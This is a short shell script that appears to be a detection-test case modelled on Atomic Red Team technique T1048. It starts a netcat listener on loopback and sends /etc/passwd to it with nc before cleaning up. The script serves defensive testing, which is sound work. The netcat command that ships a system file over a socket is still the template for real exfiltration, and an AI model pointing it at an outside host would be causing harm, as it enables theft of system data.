#!/bin/sh
# case: T1048-nc-exfil
# technique: File sent away with netcat
# source: redcanaryco/atomic-red-team T1048 Exfiltration Over Alternative Protocol
# needs: nc
# expect: net file
# where: container
# image: busybox debian
# caps: none
# seen: -
# harmless: own or decoy files, own child processes and loopback only; undoes itself. Exit 0 done, 77 cannot run here.
set -u
need() { for t in "$@"; do command -v "$t" >/dev/null 2>&1 || { echo "SKIP: $t missing"; exit 77; }; done; }
need nc
P=$((20000 + $$ % 20000)); nc -l -s 127.0.0.1 -p "$P" >/dev/null 2>&1 & L=$!
sleep 1; nc 127.0.0.1 "$P" < /etc/passwd >/dev/null 2>&1 & C=$!; sleep 1; kill "$C" "$L" 2>/dev/null; wait 2>/dev/null; true
exit 0
